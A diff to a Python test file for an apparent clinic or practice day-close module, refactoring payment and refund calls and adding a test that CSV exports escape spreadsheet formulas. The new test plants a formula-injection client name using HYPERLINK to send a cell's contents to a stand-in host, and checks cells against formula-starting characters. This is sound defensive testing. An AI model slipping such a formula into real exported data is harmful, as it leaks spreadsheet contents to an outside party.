@@ -10,6 +10,8 @@ from services.calendar.appointments import book
 from services.clients.client_records import ClientDraft, create_client
 from services.day_close.day_sheet import day_sheet_csv, day_sheet_pdf
 from services.day_close.reconciliation import (
+    Payment,
+    Refund,
     close_day,
     mark,
     record_payment,
@@ -33,8 +35,8 @@ def closed_day(vault: Vault) -> None:
     second = book(vault, vera, datetime.combine(DAY, time(11), tzinfo=LONDON))[0]
     for appointment in (first, second):
         mark(vault, appointment, AppointmentStatus.ATTENDED)
-    record_payment(vault, ada, 10000, PaymentMethod.CARD, DAY, appointment_ids=[first])
-    record_refund(vault, ada, 1950, PaymentMethod.CARD, DAY, "Paid too much")
+    record_payment(vault, Payment(ada, 10000, PaymentMethod.CARD, DAY, appointment_ids=(first,)))
+    record_refund(vault, Refund(ada, 1950, PaymentMethod.CARD, DAY, "Paid too much"))
     close_day(vault, DAY, now=EVENING)
     reopen_day(vault, DAY, "Student rate agreed")
     set_charge(vault, second, 6000, "Student rate")
@@ -97,3 +99,24 @@ def test_the_pdf_says_which_problem_was_accepted_for_whom_and_why(vault: Vault) 
     pdf = day_sheet_pdf(review_day(vault, DAY), read_settings(vault))
     text = " ".join(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text().split())
     assert "Still booked after its end (Ada Brook): She rang; mark it tomorrow" in text
+
+
+def test_no_csv_cell_is_a_formula_and_amounts_stay_numbers(vault: Vault) -> None:
+    from services.day_close.reconciliation import review_day
+
+    name = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
+    update_settings(vault, session_fee=8050)
+    ada = create_client(vault, ClientDraft(full_name=name))
+    other = create_client(vault, ClientDraft(full_name="-Ann"))
+    first = book(vault, ada, datetime.combine(DAY, time(9), tzinfo=LONDON))[0]
+    mark(vault, first, AppointmentStatus.ATTENDED)
+    record_payment(vault, Payment(ada, 10000, PaymentMethod.CARD, DAY, appointment_ids=(first,)))
+    record_payment(vault, Payment(other, 500, PaymentMethod.CASH, DAY))
+
+    text = day_sheet_csv(review_day(vault, DAY), Language.ENGLISH)
+    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert [r["client"] for r in rows] == ["'" + name, "'" + name, "'-Ann", ""]
+    # Ada paid more than she owed: her balance is negative, and still a number.
+    assert (rows[0]["balance"], rows[0]["balance_minor"]) == ("-19.50", "-1950")
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows
+                   for cell in r.values())
